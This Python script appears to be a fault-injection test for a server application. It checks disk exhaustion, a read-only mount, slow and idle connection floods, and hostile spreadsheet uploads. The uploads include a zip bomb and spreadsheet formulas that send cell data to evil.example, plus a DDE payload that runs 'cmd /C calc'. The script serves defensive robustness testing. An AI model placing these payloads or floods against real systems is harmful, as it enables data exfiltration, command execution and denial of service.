"""Does to a real server what tests cannot do on any machine, and says what happened. faults.py PEJLING; see `run`."""

import io
import re
import socket
import subprocess
import sys
import tempfile
import time
import zipfile
from contextlib import contextmanager
from pathlib import Path

from server import Server, run, tell, title, wrong

@contextmanager
def disk(megabytes):
    """A small disk with a small invented municipality on it."""
    folder = Path(tempfile.mkdtemp())
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={megabytes}m", "tmpfs", folder], check=True)
    try:
        code, said = run("demo", "--employees", 200, "--seed", 3, "--data", folder / "data")
        assert code == 0, said
        yield folder
    finally:
        subprocess.run(["umount", "-l", folder], check=True)
        folder.rmdir()


def fill(path):
    """A file that takes all the room there is."""
    with open(path, "wb", buffering=0) as file:
        try:
            while file.write(b"x" * 4096):
                pass
        except OSError:
            pass


def full_disk():
    with disk(64) as folder:
        server = Server(folder / "data")
        it = server.sign_in("it")
        letter = lambda: server.ask("POST", "/installation/letter", it)
        good = sum(letter()[0] == 303 for _ in range(50))
        tell("before the disk is full", f"{good} of 50 letters are queued", good == 50)
        fill(folder / "ballast")
        answers, refused = [], None
        for _ in range(2000):
            status, headers, text, took = letter()
            answers.append(status)
            if status != 303:
                refused = (status, headers["retry-after"], title(text), round(took, 1))
                break
        good += answers.count(303)
        tell("a write on a full disk", refused, refused is not None and refused[0] == 503 and refused[1] is not None)
        status, _, _, took = server.ask("GET", "/settings", it)
        tell("a page meanwhile", f"{status} in {took:.2f} s", status == 200)
        code, said = run("backup", "--data", folder / "data")
        left = list((folder / "data/backups").glob("*")) if (folder / "data/backups").exists() else []
        tell("a backup on a full disk", f"ends with {code}: {said.splitlines()[-1]}; files left: {len(left)}", code == 1 and not left)
        (folder / "ballast").unlink()
        status = letter()[0]
        good += status == 303
        tell("a write once there is room again, without a restart", status, status == 303)
        log = server.stop()
        tell("the log", "no panic", "panicked" not in log)
        server = Server(folder / "data")
        trials = subprocess.run(["sqlite3", folder / "data/pejling.db", "SELECT COUNT(*) FROM letter WHERE subject LIKE '%ejling%'; PRAGMA integrity_check"], capture_output=True, text=True).stdout.split()
        tell("after a restart", f"{trials[0]} letters of {good} acknowledged; SQLite says {trials[1]}", int(trials[0]) >= good and trials[1] == "ok")
        server.stop()


def read_only_disk():
    with disk(64) as folder:
        subprocess.run(["mount", "-o", "remount,ro", folder], check=True)
        code, said = run("serve", "--demo", "--data", folder / "data", "--listen", "127.0.0.1:0")
        tell("start on a read-only disk", f"ends with {code}: {said.splitlines()[-1]}", code == 1 and "panicked" not in said)
        code, said = run("doctor", "--data", folder / "data")
        line = next((line for line in said.splitlines() if line.startswith("WRONG")), said)
        tell("the doctor on a read-only disk", " ".join(line.split()), code == 1)


def slow_body(server, session):
    begun = time.monotonic()
    host, port = server.at.split(":")
    slow = socket.create_connection((host, int(port)))
    head = f"POST /import HTTP/1.1\r\nhost: {server.at}\r\ncookie: {session['cookie']}\r\ncontent-type: multipart/form-data; boundary=q\r\ncontent-length: 100000\r\n\r\n"
    slow.sendall(head.encode())
    slow.settimeout(1)
    answer, longest = b"", 0
    while time.monotonic() - begun < 100:
        longest = max(longest, server.ask("GET", "/settings", session)[3])
        try:
            slow.sendall(b"x")
            answer = slow.recv(4096)
            break
        except TimeoutError:
            continue
        except OSError:
            break
    took = time.monotonic() - begun
    line = answer.split(b"\r\n")[0].decode()
    tell("a body of a byte a second", f"{line or 'cut'} after {took:.0f} s; others waited {longest:.2f} s at most", took < 75 and longest < 2)


def idle_connections(server, session):
    host, port = server.at.split(":")
    before = server.memory_mb()[0]
    idle = []
    for number in range(2000):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((host, int(port)))
        idle.append(one)
        if number % 50 == 49:
            # No faster than the system's queue of those who wait to be let in takes them.
            time.sleep(0.02)
    taken = len(list(Path(f"/proc/{server.process.pid}/fd").iterdir()))
    status, _, _, took = server.ask("GET", "/settings", session)
    tell("a page behind 2 000 idle connections", f"{status} after {took:.1f} s; {taken} files open, {server.memory_mb()[0] - before} MB more", status == 200 and took < 40)
    for one in idle:
        one.close()
    time.sleep(1)
    status, _, _, took = server.ask("GET", "/settings", session)
    tell("a page after they are gone", f"{status} after {took:.2f} s", status == 200 and took < 2)


def book(sheet):
    """An XLSX of one sheet, whose rows come piece by piece."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
        archive.writestr("[Content_Types].xml", f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>')
        office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        relations = "http://schemas.openxmlformats.org/package/2006/relationships"
        archive.writestr("_rels/.rels", f'<Relationships xmlns="{relations}"><Relationship Id="r" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        archive.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{relations}"><Relationship Id="r" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        archive.writestr("xl/workbook.xml", f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="A" sheetId="1" r:id="r"/></sheets></workbook>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as file:
            file.write(f'<worksheet xmlns="{main}"><sheetData>'.encode())
            for piece in sheet:
                file.write(piece)
            file.write(b"</sheetData></worksheet>")
    return out.getvalue()


def rows(count):
    text = '<c t="inlineStr"><is><t>{}</t></is></c>'
    yield ("<row>" + "".join(text.format(word) for word in ("Namn", "Enhet", "E-post")) + "</row>").encode()
    row = ("<row>" + "".join(text.format(word) for word in ("Anna Berg", "Skolan", "a@b.example")) + "</row>").encode()
    for _ in range(count // 1000):
        yield row * 1000


def formulas():
    yield b'<row><c t="inlineStr"><is><t>Namn</t></is></c><c t="inlineStr"><is><t>Enhet</t></is></c></row>'
    yield b'<row><c t="str"><f>HYPERLINK("http://evil.example/"&amp;A1,"x")</f><v>=cmd|\' /C calc\'!A0</v></c><c t="str"><f>WEBSERVICE("http://evil.example")</f><v>Skolan</v></c></row>'


def hostile_lists(server):
    hr = server.sign_in("hr")
    bomb = (b" " * 1_000_000 for _ in range(2000))
    for name, bytes_ in [("a zip bomb of 2 GB", book(bomb)), ("1 000 000 rows", book(rows(1_000_000))), ("formulas", book(formulas()))]:
        part = b'--qqq\r\ncontent-disposition: form-data; name="list"; filename="list.xlsx"\r\ncontent-type: application/octet-stream\r\n\r\n'
        body = part + bytes_ + b"\r\n--qqq--\r\n"
        before = server.memory_mb()[1]
        status, headers, text, took = server.ask("POST", "/staff-lists", {**hr, "content-type": "multipart/form-data; boundary=qqq"}, body)
        said = " ".join(re.sub(r"<[^>]+>", " ", error[0]).split()) if (error := re.search(r'<p[^>]*(?:error|validation)[^>]*>.*?</p>', text, re.S)) else ""
        peak = server.memory_mb()[1] - before
        shown = f"{status} in {took:.1f} s, file of {len(bytes_) / 1e6:.1f} MB, {peak} MB more at its peak. {said or headers.get('location') or title(text)}"
        tell(f"a staff list: {name}", shown, status in (303, 422, 413) and took < 60)
    status, _, _, took = server.ask("GET", "/settings", hr)
    tell("a page after them", f"{status} after {took:.2f} s", status == 200)


full_disk()
read_only_disk()
with tempfile.TemporaryDirectory() as folder:
    code, said = run("demo", "--employees", 200, "--seed", 3, "--data", Path(folder) / "data")
    assert code == 0, said
    server = Server(Path(folder) / "data")
    hostile_lists(server)
    manager = server.sign_in("manager")
    idle_connections(server, manager)
    slow_body(server, manager)
    tell("the log", "no panic", "panicked" not in server.stop())
sys.exit(1 if wrong else 0)
